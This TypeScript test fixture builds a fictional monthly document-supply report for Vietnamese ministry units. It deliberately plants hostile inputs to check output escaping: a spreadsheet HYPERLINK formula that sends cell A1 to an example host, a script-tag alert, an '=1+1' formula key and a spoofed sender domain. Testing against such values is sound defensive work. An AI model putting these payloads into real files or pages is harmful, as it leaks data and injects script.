import { readFileSync } from "node:fs";
import type { Catalogue } from "../../../src/domain/catalogue";
import type { Policy } from "../../../src/domain/policy";
import type { Ages, DoubtfulArrival, MonthReport, OwnFigures, SupplyFigures, UnitRow } from "../../../src/report/month-report";

/* A made-up month over the units of the sample policy and the entries of the reconstructed catalogue: long names, zeros, a unit that is
   silent, one that is unchecked, what could be laid to no unit, and the words somebody hostile would put into a mail. */

const policy = JSON.parse(readFileSync("assets/policy.json", "utf8")) as Policy;
export const catalogue = JSON.parse(readFileSync("assets/catalogue.json", "utf8")) as Catalogue;
const codes = catalogue.entries.filter(({ supply }) => supply).map(({ code }) => code);

export const formula = '=HYPERLINK("https://example.com/?leak="&A1,"Bấm vào đây")';
export const script = '<script>alert("1")</script>';
export const longNote = "Đơn vị đã rà soát lại toàn bộ văn bản phát hành trong tháng và cung cấp bổ sung. ".repeat(62).slice(0, 5000);

export function supply(differs: Partial<SupplyFigures> = {}): SupplyFigures {
  return {
    supplied: 0,
    byEntry: {},
    byDestination: { portal: 0, "document-system": 0, "consultation-page": 0 },
    settled: 0,
    waiting: 0,
    returned: 0,
    overdue: 0,
    recalled: 0,
    changed: 0,
    repeated: 0,
    delay: { known: 0, median: null, sameDay: 0 },
    fromPersonal: 0,
    ...differs,
  };
}

/** `supplied` documents spread over the entries, most of them settled; `seed` makes units differ. */
function busy(supplied: number, seed: number): SupplyFigures {
  const byEntry: Record<string, number> = {};
  for (let at = 0; at < supplied; at += 1) {
    const code = codes[(at * 7 + seed * 3 + (at % 4)) % codes.length]!;
    byEntry[code] = (byEntry[code] ?? 0) + 1;
  }
  const returned = Math.floor(supplied / 15);
  const waiting = Math.floor(supplied / 5) + (seed % 3);
  const settled = supplied - returned - waiting;
  const known = supplied - (seed % 2);
  return supply({
    supplied,
    byEntry,
    byDestination: { portal: settled, "document-system": supplied - 2, "consultation-page": seed % 4 },
    settled,
    waiting,
    returned,
    overdue: Math.floor(waiting / 3),
    recalled: seed % 2,
    changed: seed % 3,
    repeated: seed,
    delay: { known, median: seed / 2, sameDay: Math.floor(known / (1 + seed / 2)) },
    fromPersonal: seed % 4,
  });
}

const ages = (upTo2: number, upTo7: number, older: number): Ages => ({ upTo2, upTo7, older });

export function own(unit: string, differs: Partial<OwnFigures> = {}): OwnFigures {
  return {
    unit,
    month: "2026-11",
    sent: {},
    notNeeded: 0,
    official: { mails: 0, fromPersonal: 0, toNotIssued: 0, draftsAttached: 0 },
    reports: 0,
    replies: 0,
    unchecked: 0,
    inbox: null,
    ...differs,
  };
}

function ownOf(unit: string, supplied: number, missed: number, seed: number): OwnFigures {
  const first = Math.ceil(supplied / 2);
  return own(unit, {
    sent: { [codes[seed]!]: { sent: first + missed, supplied: first }, [codes[seed + 1]!]: { sent: supplied - first, supplied: supplied - first } },
    notNeeded: seed % 2,
    official: { mails: supplied * 4 + 1, fromPersonal: seed, toNotIssued: seed % 3, draftsAttached: seed % 2 },
    reports: 1 + (seed % 2),
    replies: seed * 3,
    unchecked: seed * 5,
    inbox: { unread: ages(seed, seed % 3, 0), unanswered: ages(2, seed, seed % 2) },
  });
}

const figures: Record<string, Partial<UnitRow> & { readonly supply: SupplyFigures }> = {
  VP: { supply: busy(38, 1), own: ownOf("VP", 38, 2, 1), responsible: "Nguyễn Thị Minh Nguyệt" },
  CNTT: { supply: busy(24, 2), own: ownOf("CNTT", 24, 0, 2), responsible: "Lê Quang Huy", note: formula },
  TCCB: { supply: busy(17, 3), own: ownOf("TCCB", 17, 5, 3), ownSource: { kind: "delivered", at: "2026-12-01T02:30:00Z", by: "tccb.vt@moj.gov.vn", note: "Đã đối chiếu với sổ văn bản đi.", corrections: [{ at: "2026-11-30T09:00:00Z", by: "tccb.vt@moj.gov.vn", figures: ownOf("TCCB", 15, 5, 3) }] }, responsible: "Phạm Đức Long" },
  PLHSHC: { supply: busy(52, 4), own: ownOf("PLHSHC", 52, 3, 4), note: longNote },
  HTQT: { supply: supply({ supplied: 1, byEntry: { [codes[0]!]: 1 }, byDestination: { portal: 0, "document-system": 1, "consultation-page": 0 }, waiting: 1, delay: { known: 1, median: 0, sameDay: 1 } }), responsible: script },
  THADS: { supply: busy(1204, 5), own: ownOf("THADS", 1204, 41, 5), ownSource: { kind: "delivered", at: "2026-12-01T03:00:00Z", by: "thads.vt@moj.gov.vn", note: formula, corrections: [] } },
  "THADS-HN": { supply: busy(9, 6), own: null },
  "THADS-DN": { supply: supply(), own: own("THADS-DN", { inbox: { unread: ages(0, 0, 0), unanswered: ages(0, 0, 14) } }), silent: true },
};

function rowOf({ code, name, responsible }: { readonly code: string; readonly name: string; readonly responsible: string }): UnitRow {
  const known = figures[code]!;
  const mine = known.own ?? null;
  return { unit: code, name, responsible: known.responsible ?? responsible, supply: known.supply, own: mine, ownSource: known.ownSource ?? (mine === null ? { kind: "unchecked" } : { kind: "counted", at: "2026-12-01T01:15:00Z" }), silent: known.silent ?? false, note: known.note ?? "" };
}

const noUnit: UnitRow = {
  unit: null,
  name: "",
  responsible: "",
  supply: supply({ supplied: 3, byEntry: { [codes[2]!]: 2, "=1+1": 1 }, byDestination: { portal: 1, "document-system": 2, "consultation-page": 0 }, settled: 1, waiting: 2, overdue: 2, fromPersonal: 3 }),
  own: null,
  ownSource: { kind: "unchecked" },
  silent: false,
  note: "",
};

/** The sum of counts; a median is nobody's sum, so it is handed in. */
export function sum(rows: readonly SupplyFigures[], median: number | null): SupplyFigures {
  return rows.reduce(
    (total, row) =>
      ({
        ...total,
        ...Object.fromEntries((["supplied", "settled", "waiting", "returned", "overdue", "recalled", "changed", "repeated", "fromPersonal"] as const).map((name) => [name, total[name] + row[name]])),
        byEntry: added(total.byEntry, row.byEntry),
        byDestination: added(total.byDestination, row.byDestination) as SupplyFigures["byDestination"],
        delay: { known: total.delay.known + row.delay.known, median, sameDay: total.delay.sameDay + row.delay.sameDay },
      }) as SupplyFigures,
    supply(),
  );
}

const added = (some: Readonly<Record<string, number>>, more: Readonly<Record<string, number>>) => Object.entries(more).reduce<Record<string, number>>((all, [key, count]) => ({ ...all, [key]: (all[key] ?? 0) + count }), { ...some });

const doubtful: readonly DoubtfulArrival[] = [
  { mailbox: "banbientap@moj.gov.vn", itemId: "a1", arrivedAt: "2026-11-03T02:10:00Z", from: "htqt@moj.gov.vn", subject: "Cung cấp văn bản: Kế hoạch hợp tác quốc tế năm 2027", why: "no-metadata" },
  { mailbox: "banbientap@moj.gov.vn", itemId: "a2", arrivedAt: "2026-11-30T16:59:59Z", from: "ke.gia.mao@moj-gov.vn.example.com", subject: formula, why: "damaged-metadata" },
  { mailbox: "banbientap@moj.gov.vn", itemId: "a3", arrivedAt: "2026-10-31T17:00:00Z", from: "an.nm@moj.gov.vn", subject: `${script} ${"rất dài ".repeat(100)}`, why: "other-units-mailbox" },
  { mailbox: "banbientap@moj.gov.vn", itemId: "a4", arrivedAt: "2026-11-12T01:00:00Z", from: "", subject: "", why: "unknown-unit" },
];

const units = [...policy.units.map(rowOf), noUnit];
const before = (factor: number): Readonly<Record<string, SupplyFigures>> => Object.fromEntries(policy.units.map(({ code }, at) => [code, code === "THADS-DN" ? supply() : busy(Math.floor(figures[code]!.supply.supplied * factor) + 2, at + 1)]));
const lastMonth = before(0.9);

export const report: MonthReport = {
  month: "2026-11",
  scope: { kind: "ministry" },
  builtAt: "2026-12-01T03:30:00Z",
  units,
  total: sum(units.map((row) => row.supply), 1.5),
  doubtful,
  before: { lastMonth: { month: "2026-10", total: sum(Object.values(lastMonth), 2), byUnit: lastMonth }, lastYear: null },
  missing: [],
};

/** A month in which nothing at all came. */
export const emptyReport: MonthReport = {
  ...report,
  units: policy.units.map((unit) => ({ ...rowOf(unit), responsible: "", supply: supply(), own: null, ownSource: { kind: "unchecked" }, silent: true, note: "" })),
  total: supply(),
  doubtful: [],
  before: { lastMonth: { month: "2026-10", total: supply({ supplied: 4, settled: 4 }), byUnit: {} }, lastYear: { month: "2025-11", total: supply(), byUnit: {} } },
};
